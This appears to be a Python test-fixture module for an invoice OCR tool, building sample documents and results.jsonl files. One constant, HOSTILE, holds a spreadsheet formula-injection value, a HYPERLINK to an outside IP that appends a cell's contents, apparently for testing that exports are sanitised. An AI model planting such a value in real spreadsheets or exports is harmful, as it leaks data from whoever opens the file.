"""Documents as the results tell of them, for tests of what is made of results."""

from __future__ import annotations

import json
from collections.abc import Iterable
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

from batch_ocr.findings import Finding, Verdict
from batch_ocr.invoice.fields import AMOUNT_FIELDS, FIELD_NAMES
from batch_ocr.results import Document, latest
from tests.ledger_cases import sha

AT = datetime(2026, 11, 22, 2, 0, 2, 120000, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://192.0.2.1/?"&A1,"Pay here")'


def finding(code: str = "same-invoice", twin: str | None = None) -> Finding:
    return Finding(code, Verdict.WRONG, ("total_amount", "due_date"), f"says {code}", None, twin)


def document(name: str = "a.png", *findings: Finding, **values: str | Decimal | None) -> Document:
    """A completed document with bytes of its own."""
    invoice: dict[str, str | Decimal | None] = dict.fromkeys(FIELD_NAMES)
    usual = {"supplier_name": "Nordlicht GmbH", "due_date": "2026-12-01", "currency": "eur"}
    return Document(
        name=name,
        sha256=sha(name),
        status="completed",
        invoice=invoice | usual | {"total_amount": Decimal("119.00")} | values,
        invoice_number=None,
        confidence={"total_amount": 0.75, "supplier_name": 0.5, "bic": 0.1},
        findings=findings,
        review=None,
        corrected={},
        error=None,
        duplicate_of=None,
        warnings=(),
        engine="local",
        submitted_at=AT,
        completed_at=AT,
        attempts=1,
        polls=2,
    )


def line(one: Document) -> dict[str, object]:
    """The line that reads as this document."""
    invoice: dict[str, object] = dict(one.invoice or {})
    for key in AMOUNT_FIELDS & invoice.keys():
        invoice[key] = None if invoice[key] is None else float(str(invoice[key]))
    error = one.error and {"code": one.error.code, "messages": one.error.messages, "retryable": one.error.retryable}
    return {
        "schema": 1,
        "file": one.name,
        "sha256": one.sha256,
        "status": one.status,
        "invoice": invoice or None,
        **({"error": error} if error else {}),
        **({"duplicate_of": one.duplicate_of} if one.duplicate_of else {}),
        "warnings": one.warnings,
        "invoice_number": one.invoice_number,
        "confidence": dict(one.confidence),
        "checks": [
            {"code": f.code, "verdict": f.verdict, "fields": f.fields, "message": f.message}
            | ({"twin": f.twin} if f.twin else {})
            for f in one.findings
        ],
        "engine": one.engine,
        "task_id": None,
        "submitted_at": None,
        "completed_at": one.completed_at.isoformat(),
        "attempts": one.attempts,
        "polls": one.polls,
    }


def results_of(folder: Path, documents: Iterable[Document]) -> Path:
    """A results file that says this, checked by reading it back."""
    documents = list(documents)
    results = folder / "results.jsonl"
    results.write_text("".join(json.dumps(line(one)) + "\n" for one in documents), encoding="utf-8")
    assert [one.name for one in latest(results)] == [one.name for one in documents]
    return results
